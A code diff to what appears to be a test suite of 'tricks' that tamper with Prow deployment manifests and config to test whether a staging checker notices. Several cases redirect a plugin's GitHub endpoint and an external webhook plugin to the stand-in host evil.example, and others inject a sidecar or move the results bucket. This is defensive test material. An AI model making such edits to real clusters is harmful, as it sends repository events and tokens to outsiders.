@@ -1,8 +1,8 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Trick } from '../trick.js';
-import type { World } from '../world.js';
-import { rehearsed } from './images.js';
+import { BEFORE, CANDIDATE, type World } from '../world.js';
+import { decorate, rehearsed } from './images.js';
 
 const PLANK = 'manifests/prow-controller-manager.yaml';
 const ENV = '          env: [';
@@ -15,6 +15,36 @@ export const STAGED_TRICKS: readonly Trick[] = [
     for (const side of [world.base, world.head])
       world.edit(join(side, PLANK), ENV, `${args('https://api.github.com')}${ENV}`);
     world.edit(join(world.head, PLANK), 'https://api.github.com', 'https://evil.example');
+  }),
+  rehearsed('never-pulled', 'has nodes never pull Prow’s image', 'not-staged', (world) => {
+    world.edit(join(world.head, PLANK), ENV, `          imagePullPolicy: Never\n${ENV}`);
+  }),
+  rehearsed('injected', 'has a mesh put a container of somebody’s into Prow’s pod', 'not-staged', (world) => {
+    const labels = 'metadata: { labels: { app: prow-controller-manager } }';
+    world.edit(join(world.head, PLANK), labels, labels.replace('app:', 'sidecar.istio.io/inject: "true", app:'));
+  }),
+  rehearsed('played-arguments', 'gives a plugin that staging plays other arguments', 'not-staged', (world) => {
+    append(world, 'manifests/cherrypicker.yaml', '          args: [--github-endpoint=https://evil.example]\n');
+  }),
+  rehearsed('results-elsewhere', 'has jobs’ results kept elsewhere', 'not-staged', (world) => {
+    decorate(world, BEFORE);
+    for (const side of [world.base, world.head]) {
+      world.edit(
+        join(side, 'config.yaml'),
+        '{ utility_images:',
+        '{ gcs_configuration: { bucket: kept }, utility_images:',
+      );
+    }
+    world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
+    world.edit(join(world.head, 'config.yaml'), 'bucket: kept', 'bucket: lost');
+  }),
+  rehearsed('external-plugin', 'sends what GitHub tells to somebody else', 'not-staged', (world) => {
+    for (const side of [world.base, world.head]) {
+      world.edit(join(side, 'production.yaml'), 'config: config.yaml', 'config: config.yaml\nplugins: plugins.yaml');
+      const plugin = '{ name: needs-rebase, endpoint: "http://needs-rebase" }';
+      world.write(join(side, 'plugins.yaml'), `external_plugins: { example/tools: [${plugin}] }\n`);
+    }
+    world.edit(join(world.head, 'plugins.yaml'), 'http://needs-rebase', 'https://evil.example');
   }),
   rehearsed('no-such-node', 'has Prow ask for a node that there is not', 'not-staged', (world) => {
     append(world, PLANK, '      nodeSelector: { no-such: node }\n');
